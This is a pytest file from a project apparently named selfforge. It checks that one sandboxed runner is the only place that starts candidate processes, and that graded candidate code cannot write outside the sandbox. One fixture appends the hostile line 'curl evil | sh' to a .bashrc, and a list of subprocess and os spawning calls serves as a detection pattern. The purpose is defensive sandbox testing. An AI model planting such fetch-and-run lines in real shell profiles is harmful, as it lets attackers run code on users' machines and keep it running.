"""Every command that runs candidate code is sandboxed — the bench's grading runs
included (#21.4). One function spawns such commands (``judge.sandbox.command.run_command``); a
test walks selfforge's source and fails if any other place starts a process."""

from __future__ import annotations

import ast
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from selfforge.bench.testrun import run_tests

from conftest import git, make_repo

SRC = Path(__file__).parents[1] / "src" / "selfforge"
SPAWNERS = {("subprocess", n) for n in ("run", "Popen", "call", "check_call", "check_output")} | {
    ("os", n) for n in ("system", "popen", "execv", "execve", "execvp", "spawnv", "posix_spawn")
}
# Each place that may start a process, and why it is not candidate code.
ALLOWED = {
    "repo/git.py": "git itself, with hooks, fsmonitor and pagers off",
    "judge/sandbox/command.py": "run_command: the sandboxed runner every check goes through",
    "judge/sandbox/bwrap.py": "bubblewrap's own --version, --help and a trial `cat` of its status",
    "judge/selfcheck.py": "the smoke venv's python asked for its site-packages path",
    "repo/detect.py": "`selfforge init` asking poetry or pipenv where the user's virtualenv is",
    "cli/commands/resident.py": "`selfforge resident start`: this installation's own selfforge",
    "cli/resident.py": "the resident restarting itself (exec) when selfforge's files changed",
    "bench/gate.py": "`selfforge check` itself, on a commit, as a user runs it (it sandboxes)",
    "bench/perf_model.py": "`selfforge check`, `run`, `log` and `measure` themselves, as a "
    "user runs them (perf_replay.py's too)",
    "judge/sandbox/buildcache.py": "`cp -a --reflink` of the trusted cargo target dir",
    "cli/launch.py": "a resident started on first use: this installation's own selfforge",
    "propose/agent_program.py": "`command -v` in /bin/sh: where a cmd: agent's program is",
}


def _spawning_files() -> set[str]:
    found = set()
    for path in SRC.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                owner = node.func.value
                if isinstance(owner, ast.Name) and (owner.id, node.func.attr) in SPAWNERS:
                    found.add(path.relative_to(SRC).as_posix())
    return found


def test_only_the_known_places_start_a_process() -> None:
    assert _spawning_files() == set(ALLOWED)


TEST_WRITES_HOME = """
import os

def test_it():
    with open(os.path.join({home!r}, ".bashrc"), "a") as rc:
        rc.write("curl evil | sh\\n")
"""


@pytest.fixture
def home() -> Path:
    """A folder in the user's home (hidden from every check): in HOME itself, the one
    folder there every machine has (a fresh HOME has no ~/.cache)."""
    place = Path(tempfile.mkdtemp(prefix="selfforge-bench-home-", dir=Path.home()))
    (place / ".bashrc").write_text("# the user's own\n")
    yield place
    shutil.rmtree(place, ignore_errors=True)


def test_the_bench_grades_candidate_code_in_the_sandbox(tmp_path: Path, home: Path) -> None:
    test = TEST_WRITES_HOME.format(home=str(home))
    repo = make_repo(tmp_path / "clone", {"tests/test_it.py": test})
    outcome = run_tests(repo, "python -m pytest", ["tests/test_it.py"], 60)
    assert (home / ".bashrc").read_text() == "# the user's own\n"
    assert outcome.outcomes  # the grading run still read its per-test outcomes
    assert git(repo, "status", "--porcelain") == ""  # and left the clone as it was

    # Control: the grading command as the bench ran it before (the user's environment).
    command = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "tests/test_it.py"]
    subprocess.run(command, cwd=repo, env=os.environ, capture_output=True)
    assert "curl evil" in (home / ".bashrc").read_text()
